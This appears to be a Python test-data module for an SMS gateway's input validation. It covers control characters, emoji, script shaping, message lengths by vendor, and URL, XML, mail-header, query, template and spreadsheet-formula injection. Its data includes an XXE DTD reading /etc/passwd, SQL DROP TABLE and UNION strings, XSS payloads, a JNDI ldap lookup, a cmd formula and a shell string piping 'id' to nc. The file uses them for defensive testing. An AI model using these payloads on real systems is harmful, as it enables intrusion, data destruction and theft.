"""Texts, and whatever else is written freely, that could do harm on their way: B16 to B18, B25 to B32 and B42.

Most of it is nobody's mistake: emoji, markup, quotes. It has to arrive as it was written, at every vendor that can
carry it, and nowhere as anything but text.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

from tests.faults.bad_inputs.gateway import CANARY
from tests.faults.bad_inputs.shapes import TO, Posted, Right, problem_of, right_with

CONTROLS = [chr(code) for code in (*range(0x20), 0x7F)]
"""The 33 that the class speaks of; a line feed is one of them, and the only one a text may hold."""
LINE_ENDS = {"CR": "\r", "LF": "\n", "CR LF": "\r\n", "NEL": "\x85", "LS": "\u2028", "PS": "\u2029"}
OTHER_SEPARATORS = {"VT": "\x0b", "FF": "\x0c", "FS": "\x1c", "GS": "\x1d", "RS": "\x1e", "US": "\x1f"}


def variants() -> Iterator[Posted | Right]:
    yield from _controls()
    yield from _emoji()
    yield from _joined()
    yield from _lengths()
    yield from _gsm_extension()
    yield from _as_written("B27", URL_SPECIAL)
    yield from _line_ends()
    yield from _as_written("B29", MARKUP)
    yield from _as_written("B30", ENCODED_WORDS)
    yield from _senders()
    yield from _as_written("B31", STATEMENTS)
    yield from _as_written("B32", TEMPLATES)
    yield from _as_written("B42", FORMULAS)
    for of, kinds in (("B29", MARKUP), ("B31", STATEMENTS), ("B32", TEMPLATES), ("B42", FORMULAS)):
        yield from _never_an_id(of, kinds)


def as_text(of: str, name: str, text: str, arrives: str | None = None, **refused: str) -> Right:
    return Right(of=of, name=name, request=right_with(text=text), text=arrives or text, refused=refused)


def _controls() -> Iterator[Posted | Right]:
    for char in CONTROLS:
        if char == "\n":
            yield as_text("B16", "U+000A, which may be", f"{CANARY}\nof two lines")
            continue
        name, said = f"U+{ord(char):04X}", f"{CANARY}{char}1234"
        yield problem_of("B16", f"{name} in a text", right_with(text=said), "text", rf"holds .*U\+{ord(char):04X}")
        own = right_with(to=[{"number": TO, "text": said}])
        yield problem_of("B16", f"{name} in a text of its own", own, "to[0].text", rf"U\+{ord(char):04X}")
        yield problem_of("B16", f"{name} in an id", right_with(id=f"a{char}b"), "id", "must be 1 to 128")
        yield problem_of("B16", f"{name} in a sender", right_with(sender=f"a{char}b"), "sender", "cannot be printed")
        yield problem_of("B16", f"{name} in a number", right_with(to=f"{TO}{char}"), "to", r"U\+|is empty")
    everything = right_with(text="".join(CONTROLS))
    yield problem_of("B16", "all of them", everything, "text", r"U\+0000.*and other control characters")
    yield as_text("B16", "CR LF, one line break", f"{CANARY}\r\nof two lines", f"{CANARY}\nof two lines")


EMOJI = {
    "a face": "😀",
    "a family": "👨\u200d👩\u200d👧",
    "a skin tone": "👍🏽",
    "a flag": "🇹🇼",
    "a keycap": "1️⃣",
    "a heart": "❤️",
    "a symbol as a picture": "☎️",
    "a clock": "⌚",
    "a rainbow flag": "🏳️\u200d🌈",
    "a cup": "☕",
    "one of Unicode 15": "🫨",
    "a hundred": "😀" * 20,
    "a flag of England": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
}


def _emoji() -> Iterator[Right]:
    for name, picture in EMOJI.items():
        text = f"{CANARY} {picture}"
        # TwSMS: 00180 簡訊內容帶有 Emoji 圖形; SMS-Get carries none either. The others send Unicode as it is.
        code = "unsupported_character"
        yield as_text("B17", name, text, twsms=code, smsget=code)


JOINED = {
    "combining accents": "a\u0301e\u0308o\u0302",
    "many accents on one letter": "a" + "\u0301" * 30,
    "Hebrew": "שלום",
    "Arabic": "مرحبا",
    "an override": "\u202egnirts\u202c",
    "an embedding": "\u202bאבג\u202c",
    "isolates": "\u2067אבג\u2069",
    "a joiner between letters": "a\u200db",
    "a non-joiner": "نمی\u200cخواهم",
    "Hangul in letters": "\u1112\u1161\u11ab",
    "Devanagari": "क्षि",
    "Thai": "ก็ที่",
    "beyond the basic plane": "𠮷野家",
    "a variant of a character": "葛\U000e0100",
    "Bopomofo": "ㄅㄆㄇ",
    "composed and decomposed": "é e\u0301",
    "compatibility forms": "ﬁ①㍿",
    "a soft hyphen": "a\u00adb",
}


def _joined() -> Iterator[Right]:
    for name, text in JOINED.items():
        yield as_text("B18", name, f"{CANARY} {text}")


# As the vendors' documents count: parts by length of an English and of a Chinese text; None: too long for it.
# TwSMS and SMS-Get: 160, then 153 a part; 70, then 67; five parts. smsgo: the same, and 330 characters in all.
# EVERY8D: 70, 134, 201, 268, 333 whatever the script, longer ones as several. Meteorsis: 160/306/459 and 70/134/201.
_Parts = int | None
LENGTHS: Mapping[int, tuple[tuple[_Parts, ...], tuple[_Parts, ...]]] = {
    # length: (twsms, smsgo, smsget, every8d, meteorsis) in English, the same in Chinese
    1: ((1, 1, 1, 1, 1), (1, 1, 1, 1, 1)),
    70: ((1, 1, 1, 1, 1), (1, 1, 1, 1, 1)),
    71: ((1, 1, 1, 2, 1), (2, 2, 2, 2, 2)),
    134: ((1, 1, 1, 2, 1), (2, 2, 2, 2, 2)),
    135: ((1, 1, 1, 3, 1), (3, 3, 3, 3, 3)),
    160: ((1, 1, 1, 3, 1), (3, 3, 3, 3, 3)),
    161: ((2, 2, 2, 3, 2), (3, 3, 3, 3, 3)),
    201: ((2, 2, 2, 3, 2), (3, 3, 3, 3, 3)),
    202: ((2, 2, 2, 4, 2), (4, 4, 4, 4, None)),
    306: ((2, 2, 2, 5, 2), (5, 5, 5, 5, None)),
    307: ((3, 3, 3, 5, 3), (5, 5, 5, 5, None)),
    330: ((3, 3, 3, 5, 3), (5, 5, 5, 5, None)),
    331: ((3, None, 3, 5, 3), (5, None, 5, 5, None)),
    335: ((3, None, 3, 6, 3), (5, None, 5, 6, None)),
    336: ((3, None, 3, 6, 3), (None, None, None, 6, None)),
    459: ((3, None, 3, 7, 3), (None, None, None, 7, None)),
    460: ((4, None, 4, 7, None), (None, None, None, 7, None)),
    765: ((5, None, 5, 12, None), (None, None, None, 12, None)),
    766: ((None, None, None, 12, None), (None, None, None, 12, None)),
    9999: ((None, None, None, 151, None), (None, None, None, 151, None)),
}
_VENDORS = ("twsms", "smsgo", "smsget", "every8d", "meteorsis")


def _lengths() -> Iterator[Posted | Right]:
    for length, counted in LENGTHS.items():
        for script, letter, parts in zip(("English", "Chinese"), ("x", "字"), counted, strict=True):
            by_vendor = dict(zip(_VENDORS, parts, strict=True))
            yield Right(
                of="B25",
                name=f"{length} of {script}",
                request=right_with(text=letter * length),
                text=letter * length,
                refused={vendor: "too_long" for vendor, count in by_vendor.items() if count is None},
                parts={vendor: count for vendor, count in by_vendor.items() if count is not None},
            )
            if length in (1, 70, 71, 160, 161):
                request = right_with(text=letter * length, too_long="reject")
                refused = {vendor: "too_long" for vendor, count in by_vendor.items() if count != 1}
                name = f"{length} of {script}, in one or not at all"
                yield Right(of="B25", name=name, request=request, text=letter * length, refused=refused)
    yield problem_of("B25", "10,001", right_with(text="x" * 10_001), "text", "is longer than 10000 characters")
    yield problem_of("B25", "a million", right_with(text="x" * 1_000_000), "text", "is longer than 10000 characters")


def _gsm_extension() -> Iterator[Right]:
    # 3GPP TS 23.038: two septets each, so eighty fill a message where septets are counted.
    for char in "^{}\\[~]|":
        yield as_text("B26", f"one {char}", f"{CANARY} {char}")
        yield as_text("B26", f"{char} between letters", f"{CANARY}{char}{CANARY}{char}")
    yield as_text("B26", "all of them", f"{CANARY} ^{{}}\\[~]|")
    yield as_text("B26", "the euro, which is no ASCII", f"{CANARY} 20 €")
    yield as_text("B26", "form feed's neighbours", f"{CANARY} `@£$¥")
    for count, parts in {80: 1, 81: 2}.items():
        yield Right(
            of="B26",
            name=f"{count} brackets",
            request=right_with(text="[" * count),
            text="[" * count,
            parts={"smsgo": parts},
        )


URL_SPECIAL = {
    "an ampersand": "a&b",
    "an equals sign": "a=b",
    "a hash": "a#b",
    "a per cent": "100%",
    "an encoded ampersand": "a%26b",
    "a plus": "1+1=2",
    "a semicolon": "a;b",
    "a question mark": "a?b",
    "a second password": "x&password=other",
    "a second number": f"x&mobile={TO}&dstaddr={TO}",
    "a slash": "a//b",
    "an encoded line break": "a%0d%0ab",
    "encoded twice": "%2526",
    "half an escape": "50% of%",
    "an URL": "https://shop.example/?a=b&c=d%20e#f",
    "all of them": "&=#%+;?/:@,$",
}

MARKUP = {
    "the end of a CDATA section": "]]>",
    "a second recipient": "]]></USER><USER NAME='x' MOBILE='+886922333444' EMAIL='' SENDTIME=''><![CDATA[x",
    "a tag": "<b>bold</b>",
    "an end tag": "</SMS>",
    "an entity": "&amp;&lt;",
    "an entity of one's own": "&xxe;",
    "a DTD": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "a script": "<script>alert(1)</script>",
    "a comment": "<!-- -->",
    "a processing instruction": "<?xml version='1.0'?>",
    "quotes": "\"'`",
    "a SOAP envelope": "<soap:Envelope/>",
    "a tag of a mail": f"[RECIPIENT]={TO}",
    "two ends": "]]]]>>",
    "an image": "<img src=x onerror=alert(1)>",
}

ENCODED_WORDS = {
    "a line break and Bcc": "=?UTF-8?Q?=0A?=Bcc: x@example.com",
    "a carriage return": "=?utf-8?q?=0d=0a?=Bcc: x@example.com",
    "in base64": "=?UTF-8?B?DQpCY2M6IHhAZXhhbXBsZS5jb20=?=",
    "not ended": "=?UTF-8?Q?abc",
    "of an unknown charset": "=?x-none?Q?abc?=",
    "nested": "=?UTF-8?Q?=3D=3FUTF-8=3FQ=3F=0A=3F=3D?=",
    "two": "=?UTF-8?Q?a?= =?UTF-8?Q?b?=",
    "a header": "Bcc: x@example.com",
    "a dot": ".",
    "quoted-printable": "a=\tb".replace("\t", "20"),
    "from": "From me to you",
    "a boundary": "--boundary--",
}

STATEMENTS = {
    "a table dropped": "'; DROP TABLE messages; --",
    "always true": "' OR '1'='1",
    "a union": "x' UNION SELECT * FROM secrets --",
    "an operator of Mongo": '{"$gt": ""}',
    "a where": "this.to == this.to; while(1){}",
    "a condition of DynamoDB": "attribute_not_exists(pk)",
    "a placeholder of DynamoDB": ":seen",
    "a name of DynamoDB": "#to = :to",
    "PartiQL": "SELECT * FROM messages",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(/*)=1 or '",
    "Redis": "FLUSHALL",
    "a shell": "$(reboot); `id` | nc x 1",
    "a comment": "/* */ -- #",
}

TEMPLATES = {
    "braces": "{} {0} {text}",
    "a class": "{0.__class__.__mro__}",
    "per cent": "%s %d %n %(password)s",
    "a dollar": "${x} $x $$",
    "Jinja": "{{7*7}}{% raw %}",
    "Ruby": "#{7*7}",
    "ERB": "<%= 7*7 %>",
    "JNDI": "${jndi:ldap://x/a}",
    "CloudFormation": "!Sub ${AWS::AccountId}",
    "a backslash": "\\n\\x41\\u0041",
    "a format of time": "%Y-%m-%d",
    "a long width": "{:>1000000000}",
    "Mustache": "{{{x}}}",
}

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://x.example","y")',
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1)",
    "a quote": '"=1+1"',
    "a leading space": " =1+1",
}


def _as_written(of: str, kinds: Mapping[str, str]) -> Iterator[Right]:
    for name, text in kinds.items():
        yield as_text(of, f"{name} in a text", f"{text}{CANARY}")
        # EVERY8D's subject and names, and what comes back in every event.
        request = right_with(
            to=[{"number": TO, "text": text, "name": text[:100]}], label=text[:100], context={text[:64]: text}
        )
        yield Right(of=of, name=f"{name} everywhere else", request=request, text=text)


def _never_an_id(of: str, kinds: Mapping[str, str]) -> Iterator[Posted]:
    for name, text in kinds.items():
        yield problem_of(of, f"{name} as a number", right_with(to=text), "to", "holds|has|is|begins")
        yield problem_of(of, f"{name} as a time", right_with(send_at=text), "send_at", "is not a date")
        yield problem_of(of, f"{name} as a provider", right_with(providers=[text]), "providers[0]", "is not a provider")


def _line_ends() -> Iterator[Posted | Right]:
    def bad(name: str, request: Mapping[str, Any], where: str, problem: str) -> Posted:
        return problem_of("B28", name, request, where, problem)

    for kind, end in {**LINE_ENDS, **OTHER_SEPARATORS}.items():
        inside = f"{CANARY}{end}[RECIPIENT]=886922333444"
        shown = f"a{'?' * len(end)}b"
        line = "leave it out"
        if kind in ("LF", "CR LF"):
            yield as_text("B28", f"{kind} in a text", inside, inside.replace("\r\n", "\n"))
        else:
            yield bad(f"{kind} in a text", right_with(text=inside), "text", line)
        if kind != "LF":
            yield bad(f"{kind} in a value of context", right_with(context={"k": inside}), "context.k", line)
        yield bad(f"{kind} in a label", right_with(label=inside), "label", line)
        yield bad(f"{kind} in a name", right_with(to=[{"number": TO, "name": inside}]), "to[0].name", line)
        yield bad(f"{kind} in a sender", right_with(sender=f"a{end}b"), "sender", "cannot be printed")
        yield bad(f"{kind} in an id", right_with(id=f"a{end}b"), "id", "must be 1 to 128")
        yield bad(f"{kind} behind an id", right_with(id=f"a{end}"), "id", "must be 1 to 128")
        yield bad(f"{kind} behind a number", right_with(to=f"{TO}{end}"), "to", r"U\+")
        yield bad(f"{kind} between two numbers", right_with(to=f"{TO}{end}{TO}"), "to", r"U\+|longer")
        yield bad(f"{kind} behind a time", right_with(send_at=f"2026-11-22T10:00:00+08:00{end}"), "send_at", "not a")
        yield bad(f"{kind} in an URL", right_with(form="push", url=f"https://a.tw/{end}x"), "url", "must be an http")
        yield bad(f"{kind} in a key of context", right_with(context={f"a{end}b": "v"}), f"context.{shown}", line)
        yield bad(f"{kind} in a name of a field", right_with(**{f"a{end}b": "v"}), shown, "unknown field")
        yield bad(
            f"{kind} in a provider", right_with(providers=[f"twsms{end}"]), "providers[0]", "did you mean `twsms`"
        )
        yield bad(f"{kind} in a form", right_with(form=f"text{end}"), "form", "choose among")


def _senders() -> Iterator[Right]:
    """A sender stands in a line of Meteorsis's mail; the others show none."""
    others = dict.fromkeys(("twsms", "smsgo", "smsget", "every8d"), "unsupported_feature")
    for name, sender in {
        "an encoded word": "=?UTF-8?Q?=0A?=x",
        "a tag": "[RECIPIENT]=0",
        "an address": "x@example.com",
        "a hash": "#Shop",
        "Chinese": "好商店",
        "twelve letters": "ShopShopShop",
    }.items():
        request = right_with(sender=sender)
        yield Right(
            of="B30", name=f"{name} as sender", request=request, refused={**others, "meteorsis": others["twsms"]}
        )
    yield Right(of="B30", name="a right sender", request=right_with(sender="Shop24"), refused=others)
